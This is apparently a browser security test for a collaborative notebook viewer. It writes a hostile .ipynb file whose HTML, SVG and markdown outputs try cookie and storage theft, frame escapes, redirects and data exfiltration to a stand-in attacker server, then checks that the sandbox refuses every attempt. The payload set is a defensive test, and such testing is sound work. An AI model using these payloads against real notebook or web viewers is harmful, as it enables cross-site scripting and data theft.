// A notebook by somebody who means harm, opened by a guest in a real browser: what its outputs and its text try, and what comes of it.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join as path } from 'node:path';
import { test } from 'node:test';
import { files, join, open } from './guest.mjs';
import { browser, finallyDo, headless, person, place, screenshots, until } from './programs.mjs';

/** A server of the attacker, which notes every byte that reaches it. */
async function attacker(t) {
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<p>of the attacker</p>');
  });
  // Chromium may connect to what a frame names before it refuses it; it says nothing then.
  server.on('connection', (socket) => socket.on('data', (bytes) => reached.push(String(bytes))));
  server.listen(0, '127.0.0.77');
  await once(server, 'listening');
  finallyDo(t, () => new Promise((resolve) => { server.close(resolve); server.closeAllConnections(); }));
  return { url: `http://127.0.0.77:${server.address().port}`, reached };
}

/** What the script of an output tries; each entry is a name and the beginning of a promise of something it should not get. */
const script = (evil) => `
  const tried = (window.tried = {});
  const attempt = (name, work) => {
    tried[name] = 'pending';
    Promise.resolve().then(work).then((got) => { tried[name] = 'got ' + got; }, (error) => { tried[name] = 'refused'; });
  };
  const loads = (element, address) => new Promise((resolve, reject) => {
    Object.assign(element, { onload: () => resolve('a load'), onerror: () => reject(new Error('no')) });
    element[element.localName === 'link' ? 'href' : 'src'] = address;
    document.body.append(element);
  });
  const make = (name, more = {}) => Object.assign(document.createElement(name), more);
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('database', () => new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = () => resolve('it'); asked.onerror = () => reject(asked.error); }));
  attempt('page', () => parent.document.title);
  attempt('page by name', () => { parent.struck = 1; return 'it'; });
  attempt('top', () => { top.location = '${evil}/top'; return new Promise(() => {}); });
  attempt('window', () => { if (!open('${evil}/window')) throw new Error('no'); return 'one'; });
  attempt('host api', () => fetch('/Tide%20pools/api/contents').then((answer) => answer.status));
  attempt('host api, written', () => fetch('/api/contents/struck.txt', { method: 'PUT', credentials: 'include', body: '{}' }).then((answer) => answer.status));
  attempt('host socket', () => new Promise((resolve, reject) => { const line = new WebSocket(location.origin.replace('null', 'ws://' + location.host) + '/api/events/subscribe'); line.onopen = () => resolve('it'); line.onerror = reject; }));
  attempt('fetch', () => fetch('${evil}/fetch', { mode: 'no-cors' }).then(() => 'through'));
  attempt('socket', () => new Promise((resolve, reject) => { const line = new WebSocket('${evil}'.replace('http', 'ws')); line.onopen = () => resolve('it'); line.onerror = reject; }));
  attempt('events', () => new Promise((resolve, reject) => { const source = new EventSource('${evil}/events'); source.onopen = () => resolve('it'); source.onerror = reject; }));
  attempt('image', () => loads(make('img'), '${evil}/image'));
  attempt('script', () => loads(make('script'), '${evil}/script'));
  attempt('style', () => loads(make('link', { rel: 'stylesheet' }), '${evil}/style'));
  attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve('one'); worker.onerror = reject; }));
  attempt('module', () => import('${evil}/module').then(() => 'it'));
  navigator.sendBeacon?.('${evil}/beacon', 'x');
  document.body.append(make('link', { rel: 'prefetch', href: '${evil}/prefetch' }), make('iframe', { src: '${evil}/frame' }), make('object', { data: '${evil}/object' }), make('embed', { src: '${evil}/embed' }));
  const form = make('form', { method: 'post', action: '${evil}/form' });
  document.body.append(form);
  form.submit();
  for (const junk of [null, 1, 'x', [], { height: 1e12 }, { height: -5 }, { height: 'x' }, { ready: true }, { height: NaN }]) parent.postMessage(junk, '*');
  window.done = true;
`;

const style = (evil) => `<style>@import url('${evil}/import'); @font-face { font-family: x; src: url('${evil}/font'); }
  body { background: url('${evil}/background'); font-family: x; } input[value^="a"] { background: url('${evil}/letter'); }</style><input value="abc">`;

test('SAFE-30 what a notebook tries in its outputs and its text comes to nothing', async (t) => {
  const at = place(t);
  const { url: evil, reached } = await attacker(t);
  const output = (data) => ({ output_type: 'display_data', data, metadata: {} });
  const shown = (id, ...outputs) => ({ id, cell_type: 'code', source: ['1'], metadata: { trusted: true }, execution_count: 1, outputs });
  const markdown = `# Title\n\n<script>window.struck=1</script><img src="${evil}/text" onerror="window.struck=2"><svg onload="window.struck=3"></svg>\n\n[press](javascript:window.struck=4) ![p](${evil}/picture)\n\n<form action="${evil}/form"><button>b</button></form><style>body{background:url(${evil}/css)}</style><iframe src="${evil}/frame"></iframe><a href="javascript:window.struck=5" id="files">x</a>`;
  const cells = [
    shown('a', output({ 'text/html': [`<p>first</p>${style(evil)}<script>${script(evil)}</script>`] })),
    shown('b', output({ 'image/svg+xml': [`<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.ran=true"><image href="${evil}/svg"/><script>parent.struck=6</script></svg>`] })),
    shown('c', output({ 'text/html': [`<p>third</p><script>setTimeout(() => { location.href = '${evil}/away'; }, 50)</script>`] })),
    shown('d', output({ 'text/html': [`<p>fourth</p><meta http-equiv="refresh" content="0;url=${evil}/refresh"><a href="javascript:parent.struck=7">x</a>`] })),
    shown('g', output({ 'text/html': [`<p>fifth</p><a href="${evil}/download" download="x">x</a><script>document.querySelector('a').click()</script>`] })),
    shown('e', output({ 'application/javascript': ['window.struck=8'] }), output({ 'text/markdown': [markdown] })),
    { id: 'f', cell_type: 'markdown', source: [markdown], metadata: {} },
  ];
  writeFileSync(at.file('hostile.ipynb'), `${JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`);
  const { link } = await headless(t, at);
  // What a frame's scripts are refused is thrown in the frame.
  const page = await person(t, await browser(t), {}, /SecurityError|cross-origin|sandbox/);
  await join(page, link, 'Ana');
  await open(page, 'hostile.ipynb');
  const address = page.url();
  await page.getByRole('heading', { name: 'Title' }).first().waitFor();

  const frames = page.locator('iframe');
  await until('five outputs are in frames', async () => (await frames.count()) === 5);
  for (const frame of await frames.all()) assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
  const first = await until('the first output ran', async () => {
    for (const frame of page.frames().slice(1)) if (await frame.evaluate(() => window.done === true).catch(() => false)) return frame;
    return null;
  });
  assert.equal(await first.evaluate(() => self.origin), 'null');
  // Pressed by a person as well.
  for (const name of ['press', 'x']) {
    for (const press of await page.getByRole('link', { name, exact: true }).all()) await press.click({ force: true });
  }
  const tried = await until('everything was tried', async () => {
    const now = await first.evaluate(() => window.tried);
    return Object.values(now).includes('pending') ? null : now;
  });
  for (const [name, came] of Object.entries(tried)) assert.equal(came, 'refused', name);
  assert.ok(Object.keys(tried).length > 15);
  const svg = await until('the picture is there', async () => {
    for (const frame of page.frames().slice(1)) if (await frame.evaluate(() => document.querySelector('svg image') !== null).catch(() => false)) return frame;
    return null;
  });
  assert.equal(await svg.evaluate(() => self.origin), 'null');

  assert.equal(await page.evaluate(() => window.struck), undefined);
  assert.equal(page.url(), address);
  const heights = await frames.evaluateAll((all) => all.map((frame) => frame.getBoundingClientRect().height));
  assert.ok(heights.every((height) => height <= 1600), String(heights));
  await page.screenshot({ path: path(screenshots, 'hostile.png'), fullPage: true });
  // The page goes on, and nothing left it.
  await files(page).getByText('hostile.ipynb', { exact: true }).waitFor();
  assert.deepEqual(reached, []);
  assert.equal(page.context().pages().length, 1);
});
